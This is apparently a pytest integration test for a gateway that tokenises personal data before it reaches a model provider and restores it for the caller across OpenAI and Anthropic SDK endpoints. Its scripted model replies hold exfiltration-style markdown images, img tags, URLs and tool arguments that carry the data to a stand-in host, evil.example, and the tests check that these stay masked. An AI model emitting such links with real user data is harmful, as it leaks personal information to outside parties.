"""Reversible personal data through real Envoy and the official SDKs: the provider never sees it, the caller does."""

import json
import re
import ssl

import anthropic
import httpx
import httpx2
import openai
import pytest

import provider
from asking import MODEL
from messaging import block, end, source, start, stop, text
from responding import Script, call, message, part
from stack import Options, Stack
from upstream import Call

MAIL, CARD = "jane.roe@example.com", "4111 1111 1111 1111"
PROMPT = f"Tell {MAIL} (card {CARD}); again {MAIL}."
FORM = re.compile(r"\[(?:EMAIL|CARD)_T[A-Z]{12}\]")
ARGUMENTS = '{"to": "@", "note": "a \\"b\\" @", "url": "https:\\/\\/evil.example\\/?q=@"}'
TOOLS = [
    {"type": "function", "function": {"name": name, "parameters": {"type": "object"}}} for name in ("mail", "search")
]


def told_by_model(mail: str, card: str) -> str:
    return (
        f"**{mail}** `{card}` _{mail[1:-1]}_ {mail.lower()}: eve@evil.example ![x](https://evil.example/{mail}) "
        f'<img src="{card}"> https://evil.example/?q={mail} \u00fc {card}'
    )


def read_by_caller(mail: str, card: str) -> str:
    """`mail` and `card` are the placeholders, which stay where a value would be sent on."""
    return (
        f"**{MAIL}** `{CARD}` _{MAIL}_ {MAIL}: [EMAIL] ![x](https://evil.example/{mail}) "
        f'<img src="{card}"> https://evil.example/?q={mail} \u00fc {CARD}'
    )


def arguments_read(mail: str, *, trusted: bool) -> dict[str, str]:
    shown = MAIL if trusted else mail
    return {"to": shown, "note": f'a "b" {shown}', "url": f"https://evil.example/?q={mail}"}


def write(directory):
    """Tenant acme tokenises personal data in requests; `mail` is the one tool that may be told values."""
    path = directory / "tenants.yaml"
    tenants = json.loads(path.read_text())
    guards = {"request": {"pii.*": "tokenise"}, "response": {"pii.*": "redact"}}
    tenants["acme"] |= {"guards": guards, "restore": {"tools": ["mail"]}}
    tenants["narrow"] |= {"guards": guards, "restore": "false", "models": ["*"]}
    path.write_text(json.dumps(tenants).replace('"false"', "false"))


@pytest.fixture(scope="module")
def giving(short_dir, upstreams):
    with Stack(short_dir(), upstreams, Options(workers=1, policy=write)) as running:
        yield running


@pytest.fixture
def openai_sdk(giving):
    context = ssl.create_default_context(cafile=str(giving.authority.pem))
    with httpx.Client(verify=context) as http:
        yield lambda key="acme": openai.OpenAI(
            base_url=f"https://localhost:{giving.port}/v1",
            api_key=giving.bundle.keys[key],
            http_client=http,
            timeout=60,
        )


@pytest.fixture
def anthropic_sdk(giving):
    context = ssl.create_default_context(cafile=str(giving.authority.pem))
    with httpx2.Client(verify=context) as http:
        yield anthropic.Anthropic(
            base_url=f"https://localhost:{giving.port}",
            api_key=giving.bundle.keys["acme"],
            http_client=http,
            timeout=60,
        )


def placeholders(seen) -> tuple[str, str]:
    """What stands for address and card in a request, which holds neither."""
    body = seen.body.decode()
    assert MAIL not in body
    assert CARD not in body
    mail, card = dict.fromkeys(FORM.findall(body))
    assert body.count(mail) == 2
    return mail, card


def letters(words: str) -> list[str]:
    return list(words)


def check_record(giving, request_id: str, *, restored: bool = True):
    """Counts are on record; values and placeholders are nowhere."""
    record = giving.record(request_id)
    found = {(each["rule"], each["direction"], each["action"]): each["count"] for each in record["found"]}
    assert found["pii.email", "request", "tokenise"] == 2
    assert found["pii.card", "request", "tokenise"] == 1
    assert (("pii.email", "response", "restore") in found) is restored
    written = json.dumps(record) + giving.logs()
    assert not [value for value in (MAIL, CARD, "EMAIL_T") if value in written]
    return found


@pytest.mark.parametrize("size", [0, 1])
def test_chat_streams_in_single_letters_and_bytes(giving, openai_sdk, upstream, size):
    async def answer(call: Call) -> None:
        mail, card = placeholders(call.seen)
        events = []
        for letter in letters(told_by_model(mail, card)):
            events += [
                provider.delta(letter),
                provider.delta(letter, index=1),
                provider.delta(reasoning_content=letter),
            ]
        for index, name in enumerate(("mail", "search")):
            opened = {"index": index, "id": f"call_{index}", "type": "function"}
            events.append(provider.delta(tool_calls=[{**opened, "function": {"name": name, "arguments": ""}}]))
            for letter in letters(ARGUMENTS.replace("@", mail)):
                events.append(provider.delta(tool_calls=[{"index": index, "function": {"arguments": letter}}]))
        events += [provider.delta(finish="tool_calls"), provider.delta(index=1, finish="stop")]
        await call.sse(b"".join(map(provider.event, events)) + b"data: [DONE]\n\n", size=size)

    marker = upstream.script(answer)
    asked = [{"role": "user", "content": f"{PROMPT} {marker}"}]
    with openai_sdk().chat.completions.with_streaming_response.create(
        messages=asked, model=MODEL, n=2, stream=True, tools=TOOLS
    ) as raw:
        request_id = raw.headers["x-request-id"]
        said, thought, calls = {0: "", 1: ""}, "", {0: "", 1: ""}
        for chunk in raw.parse():
            for choice in chunk.choices:
                said[choice.index] += choice.delta.content or ""
                thought += getattr(choice.delta, "reasoning_content", None) or ""
                for made in choice.delta.tool_calls or ():
                    calls[made.index] += made.function.arguments or ""
    mail, card = placeholders(upstream.one(marker))
    assert said[0] == said[1] == thought == read_by_caller(mail, card)
    assert json.loads(calls[0]) == arguments_read(mail, trusted=True)
    assert json.loads(calls[1]) == arguments_read(mail, trusted=False)
    found = check_record(giving, request_id)
    assert found["pii.email", "response", "restore"] == 3 * 3 + 2
    assert found["pii.email", "response", "keep"] == 3 * 2 + 1 + 3
    assert found["pii.email", "response", "redact"] == 3  # the address that the model made up


def test_a_chat_answer(giving, openai_sdk, upstream):
    async def answer(call: Call) -> None:
        mail, card = placeholders(call.seen)
        calls = [
            {"id": name, "type": "function", "function": {"name": name, "arguments": ARGUMENTS.replace("@", mail)}}
            for name in ("mail", "search")
        ]
        await call.json(provider.chat(told_by_model(mail, card), tool_calls=calls))

    marker = upstream.script(answer)
    asked = [{"role": "user", "content": f"{PROMPT} {marker}"}]
    told = openai_sdk().chat.completions.create(messages=asked, model=MODEL, tools=TOOLS)
    mail, card = placeholders(upstream.one(marker))
    made = told.choices[0].message
    assert made.content == read_by_caller(mail, card)
    trusted, other = (json.loads(each.function.arguments) for each in made.tool_calls)
    assert (trusted, other) == (arguments_read(mail, trusted=True), arguments_read(mail, trusted=False))
    check_record(giving, told._request_id)


def test_completions(giving, openai_sdk, upstream):
    async def answer(call: Call) -> None:
        mail, card = placeholders(call.seen)
        await call.json({"id": "c", "object": "text_completion", "created": 1, "model": "m", "choices": [
            {"index": 0, "text": told_by_model(mail, card), "finish_reason": "stop"}]})  # fmt: skip

    marker = upstream.script(answer)
    told = openai_sdk().completions.create(prompt=f"{PROMPT} {marker}", model=MODEL)
    assert told.choices[0].text == read_by_caller(*placeholders(upstream.one(marker)))
    check_record(giving, told._request_id)


@pytest.mark.parametrize("stream", [False, True])
def test_responses(giving, openai_sdk, upstream, stream):
    async def answer(made: Call) -> None:
        mail, card = placeholders(made.seen)
        words, arguments = told_by_model(mail, card), ARGUMENTS.replace("@", mail)
        script = Script().begin().item(message(part(words)), ("output_text", 0, letters(words)))
        for name in ("mail", "search"):
            script.item(call(arguments, f"fc_{name}", name=name), ("arguments", 0, letters(arguments)))
        script.end()
        if stream:
            await made.sse(script.raw, size=1)
        else:
            await made.json(json.loads(script.events[-1].split(b"data: ")[1])["response"])

    marker = upstream.script(answer)
    sdk = openai_sdk()
    raw = sdk.responses.with_raw_response.create(input=f"{PROMPT} {marker}", model=MODEL, stream=stream)
    told = raw.parse()
    if stream:
        events = list(told)
        told = events[-1].response
        assert "".join(e.delta for e in events if e.type == "response.output_text.delta") == told.output_text
    mail, card = placeholders(upstream.one(marker))
    assert told.output_text == read_by_caller(mail, card)
    trusted, other = (json.loads(item.arguments) for item in told.output[1:])
    assert (trusted, other) == (arguments_read(mail, trusted=True), arguments_read(mail, trusted=False))
    check_record(giving, raw.headers["x-request-id"])


@pytest.mark.parametrize("size", [0, 1])
def test_a_stream_of_a_message(giving, anthropic_sdk, upstream, size):
    async def answer(made: Call) -> None:
        mail, card = placeholders(made.seen)
        events = [start(), block(), *map(text, letters(told_by_model(mail, card))), stop()]
        for index, name in ((1, "mail"), (2, "search")):
            events.append(block(index, type="tool_use", id=f"toolu_{index}", name=name, input={}))
            events += [source(letter, index) for letter in letters(ARGUMENTS.replace("@", mail))]
            events.append(stop(index))
        await made.sse(b"".join(events) + end("tool_use"), size=size)

    marker = upstream.script(answer)
    asked = [{"role": "user", "content": f"{PROMPT} {marker}"}]
    tools = [{"name": name, "input_schema": {"type": "object"}} for name in ("mail", "search")]
    with anthropic_sdk.messages.stream(messages=asked, tools=tools, model="claude-test", max_tokens=64) as stream:
        request_id = stream.response.headers["x-request-id"]
        said, trusted, other = stream.get_final_message().content
    mail, card = placeholders(upstream.one(marker))
    assert said.text == read_by_caller(mail, card)
    assert (trusted.input, other.input) == (arguments_read(mail, trusted=True), arguments_read(mail, trusted=False))
    check_record(giving, request_id)


def test_a_message(giving, anthropic_sdk, upstream):
    async def answer(made: Call) -> None:
        mail, card = placeholders(made.seen)
        arguments = json.loads(ARGUMENTS.replace("@", mail))
        content = [{"type": "text", "text": told_by_model(mail, card)}]
        content += [{"type": "tool_use", "id": name, "name": name, "input": arguments} for name in ("mail", "search")]
        await made.json({"id": "m", "type": "message", "role": "assistant", "model": "m", "content": content,
                         "stop_reason": "tool_use", "stop_sequence": None,
                         "usage": {"input_tokens": 1, "output_tokens": 1}})  # fmt: skip

    marker = upstream.script(answer)
    asked = [{"role": "user", "content": f"{PROMPT} {marker}"}]
    raw = anthropic_sdk.messages.with_raw_response.create(messages=asked, model="claude-test", max_tokens=64)
    said, trusted, other = raw.parse().content
    mail, card = placeholders(upstream.one(marker))
    assert said.text == read_by_caller(mail, card)
    assert (trusted.input, other.input) == (arguments_read(mail, trusted=True), arguments_read(mail, trusted=False))
    check_record(giving, raw.headers["x-request-id"])


def test_a_tenant_that_restores_nothing_reads_placeholders(giving, openai_sdk, upstream):
    async def answer(made: Call) -> None:
        await made.json(provider.chat(" ".join(placeholders(made.seen))))

    marker = upstream.script(answer)
    asked = [{"role": "user", "content": f"{PROMPT} {marker}"}]
    told = openai_sdk("narrow").chat.completions.create(messages=asked, model=MODEL)
    assert told.choices[0].message.content == " ".join(placeholders(upstream.one(marker)))
    check_record(giving, told._request_id, restored=False)


def test_two_exchanges_share_no_placeholder_and_none_is_taken_over(giving, openai_sdk, upstream):
    echoed = []

    async def answer(made: Call) -> None:
        echoed.append(placeholders(made.seen))
        await made.json(provider.chat(" ".join(mail for mail, _ in echoed)))

    told = []
    for _ in range(2):
        marker = upstream.script(answer)
        asked = [{"role": "user", "content": f"{PROMPT} {marker}"}]
        told.append(openai_sdk().chat.completions.create(messages=asked, model=MODEL).choices[0].message.content)
    assert len(set(echoed)) == 2
    assert told == [MAIL, f"{echoed[0][0]} {MAIL}"]
